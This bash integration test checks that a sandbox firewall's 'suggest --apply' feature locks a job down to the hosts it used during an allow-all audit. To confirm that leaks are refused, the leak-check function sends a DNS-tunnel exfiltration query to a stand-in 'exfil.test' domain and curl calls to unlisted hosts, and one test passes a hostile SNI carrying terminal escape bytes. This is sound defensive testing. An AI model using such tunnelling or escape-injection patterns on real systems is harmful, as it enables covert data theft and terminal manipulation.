#!/bin/bash
# SPDX-License-Identifier: GPL-2.0-or-later
# Audit, then lock (SPEC §7 suggest): a job runs in allow-all with real
# clients (curl to five names under one parent, git clone, psql, plain
# HTTP to an address), `sbxfw suggest --apply' writes the policy, and
# the same job passes under it while what it never did is refused: a
# name it did not use, a DNS tunnel (markers checked on the internet's
# side, with the same attempts let through in allow-all as the control).
source "$(dirname "$0")/../lib/check.sh"
source "$(dirname "$0")/topology.sh"
source "$(dirname "$0")/capture.sh"

topo_up || { echo "topology failed"; echo "0 passed, 1 failed"; exit 1; }
start_daemon || { cat "$TMP/sbxfwd.log"; echo "0 passed, 1 failed"; exit 1; }
setsid -f ip netns exec "$NS_NET" python3 "$(dirname "$0")/pg_server.py" "$NET4" 5432 \
	"$CERTS/server.pem" "$CERTS/server.key" pg-reached >"$TMP/pg.log" 2>&1
wait_for 50 grep -q listening "$TMP/pg.log"

# the audit is read from the database (-c: where the ini says it is)
sg() { "$SBXFW" -s "$SOCK" -c "$TMP/sbxfw.ini" suggest "$@"; }

# allow-all: the kernel lets flows through unread, and logs the segment
# that starts each ClientHello for the flow's name in the audit
audited() { recreate --mode allow-all >/dev/null; }

NAMES="a.example.test b.example.test c.example.test d.example.test e.example.test"

# the job: every step must work; names through the sandbox's DNS
job() {
	local n out
	for n in $NAMES; do
		out=$(https "$n")
		[ "$out" = "hello $n" ] || { echo "curl $n: $out"; return 1; }
	done
	rm -rf "$TMP/clone"
	sb env GIT_SSL_CAINFO="$CA" git clone -q https://git.test/git/repo.git \
		"$TMP/clone" 2>&1 || { echo "git clone failed"; return 1; }
	out=$(sb env PGCONNECT_TIMEOUT=5 PGSSLROOTCERT="$CA" psql \
		"host=db.test port=5432 user=job dbname=job sslmode=verify-full" \
		-c 'SELECT 1' 2>&1)
	echo "$out" | grep -q 'pg-reached' || { echo "psql: $out"; return 1; }
	out=$(sb curl -sS -m 5 http://198.18.3.10/ 2>&1)
	[ "$out" = "plain 198.18.3.10" ] || { echo "http: $out"; return 1; }
}

# what the job never did, each carrying a marker: true if any reached
# the internet (the capture, the upstream resolver's query log)
leaks() { # MARKER
	capture || return 2
	sb curl -s -m 3 --cacert "$CA" "https://$1.other.test/" >/dev/null 2>&1
	sb curl -s -m 3 --cacert "$CA" --resolve "$1.other.test:443:$NET4" \
		"https://$1.other.test/" >/dev/null 2>&1
	sb dig +time=2 +tries=1 TXT "$1.tunnel.exfil.test" >/dev/null 2>&1
	capture_stop
	seen "$1" || grep -q -F "$1" "$TMP/dnsmasq.log"
}

now() { date -u '+%Y-%m-%d %H:%M:%S.%3N'; }

test_allow_all_job_then_suggest_apply_locks_it_down() {
	local out m t
	audited && cli deny sb1 198.18.4.0/24 >/dev/null || return 1
	m=$(marker)
	leaks "$m" || fail "control: the markers did not reach the internet in allow-all"
	# the job's window starts after the control
	t=$(now); sleep 0.2
	out=$(job) || fail "the job in allow-all: $out"
	# its last flow audited (rows are written every 100 ms)
	expect_flow "dst = '198.18.3.10' AND dport = 80" "allow|mode-allow-all|"
	out=$(sg sb1 --since "$t" --json) || fail "suggest: $out"
	python3 - "$out" <<'PY' || fail "suggested: $out"
import json, sys
p = json.loads(sys.argv[1])
assert p["mode"] == "user-defined", p
for want in ("*.example.test", "git.test", "db.test:5432"):
    assert want in p["allow"], (want, p["allow"])
assert not any("other.test" in a for a in p["allow"]), p["allow"]
assert "198.18.3.10/32" in p["subnets"]["allow"], p["subnets"]
assert p["subnets"]["deny"] == ["198.18.4.0/24"], p["subnets"]
assert p["deny"] == [], p["deny"]
w = [r for r in p["comment"]["rules"] if r["rule"] == "*.example.test"][0]
assert w["names"] == 5 and w["flows"] >= 5, w
PY
	# an injection rule: exports redact its value, the apply keeps it
	cli inject sb1 api.example.test --header 'X-Key: kept-s3cr3t' >/dev/null || fail "inject"
	out=$(sg sb1 --since "$t" --apply) || fail "apply: $out"
	cli policy sb1 | grep -q '"X-Key": "<redacted>"' || fail "injection rule lost: $(cli policy sb1)"
	[ "$(sqlite3 -batch -noheader "${DB%.db}-secrets.db" \
		"SELECT count(*) FROM injection_headers WHERE value = 'kept-s3cr3t'")" = 1 ] ||
		fail "the injected value was not kept"
	echo "$out" | grep -q '^+ mode user-defined$' && echo "$out" | grep -q '^+ allow \*.example.test$' ||
		fail "no diff first: $out"
	echo "$out" | grep -q '^  allow \*.example.test — 5 names, [0-9]* flows' || fail "explained: $out"
	[ "$(cli --json show sb1 | python3 -c 'import json,sys; print(json.load(sys.stdin)["mode"])')" = user-defined ] ||
		fail "mode: $(cli show sb1)"
	out=$(job) || fail "the job under the suggested policy: $out"
	m=$(marker)
	leaks "$m" && fail "a marker reached the internet under the suggested policy"
	expect_dns "name = '$m.tunnel.exfil.test'" "deny|domain-not-allowed|"
	expect_flow "sni = '$m.other.test'" "deny|domain-not-allowed|"
}

test_suggest_reads_the_audit_with_the_daemon_down() {
	local out t
	audited || return 1
	t=$(now); sleep 0.2
	[ "$(https a.example.test)" = "hello a.example.test" ] || fail "curl"
	sb dig +short +time=2 +tries=1 tracker.example.test >/dev/null
	expect_dns "name = 'tracker.example.test'" "allow|mode-allow-all|A $NET4"
	# the flow's row, named from its logged ClientHello, before the stop
	expect_flow "sni = 'a.example.test'" "allow|mode-allow-all|"
	stop_daemon
	out=$(sg sb1 --since "$t" 2>&1)
	sg sb1 --since "$t" --json >"$TMP/suggested.json"
	start_daemon
	# the --json form, its comment included, is a policy --set takes
	cli policy sb1 --set "$TMP/suggested.json" | grep -q 'policy replaced' ||
		fail "policy --set refused the suggestion"
	cli check sb1 a.example.test | grep -q 'allow: domain-allowed' || fail "not set"
	echo "$out" | grep -q '^  allow a.example.test — 1 name, 1 flow' || fail "$out"
	echo "$out" | grep -q '^left out, resolved but never connected to: tracker.example.test' ||
		fail "unconnected: $out"
}

# a hostile SNI in allow-all is let through and named in the audit as it
# came; it never becomes a rule, and is escaped in both outputs (lower
# case: names are grouped as rules compare them)
test_hostile_names_are_listed_escaped_never_allowed() {
	local out t
	audited || return 1
	t=$(now); sleep 0.2
	out=$(attack hostile mk7)
	[ "$out" = serverhello ] || fail "allow-all: $out"
	expect_flow "sni LIKE '%mk7%'" "allow|mode-allow-all|"
	sg sb1 --since "$t" >"$TMP/text" || fail "text: exit $?"
	grep -q 'left out, not a host name: \\x1b\[2j\\xff\\xfemk7' "$TMP/text" ||
		fail "text: $(cat -v "$TMP/text")"
	! grep -q "$(printf '\033')" "$TMP/text" || fail "an escape reached the terminal"
	sg sb1 --since "$t" --json | python3 -c '
import json, sys
p = json.loads(sys.stdin.read())
assert p["allow"] == [] and p["subnets"]["allow"] == [], p
assert p["comment"]["unusable_names"][0].startswith("\\x1b[2j\\xff\\xfemk7"), p' ||
		fail "json"
}

test_suggest_refuses_bad_input_and_changes_nothing() {
	local out
	recreate --mode allow-all >/dev/null || return 1
	out=$(sg nosuch 2>&1); [ $? -eq 1 ] && [ "$out" = "sbxfw: no sandbox named \`nosuch'" ] ||
		fail "name: $out"
	out=$(sg sb1 --wildcard-threshold 1 2>&1); [ $? -eq 1 ] &&
		echo "$out" | grep -q "invalid --wildcard-threshold \`1'" || fail "threshold: $out"
	out=$(sg sb1 --max-prefix 33 2>&1); [ $? -eq 1 ] &&
		echo "$out" | grep -q "invalid --max-prefix \`33'" || fail "prefix: $out"
	out=$(sg sb1 --since yesterdayish 2>&1); [ $? -eq 1 ] &&
		echo "$out" | grep -q "invalid time \`yesterdayish' for --since" || fail "since: $out"
	out=$(sg 2>&1); [ $? -eq 2 ] || fail "usage: $out"
	cli check sb1 anything.test | grep -q 'allow: mode-allow-all' || fail "changed"
}

run_cases
grep -E 'Sanitizer|runtime error' "$TMP/sbxfwd.log" && failed=$((failed + 1))
finish
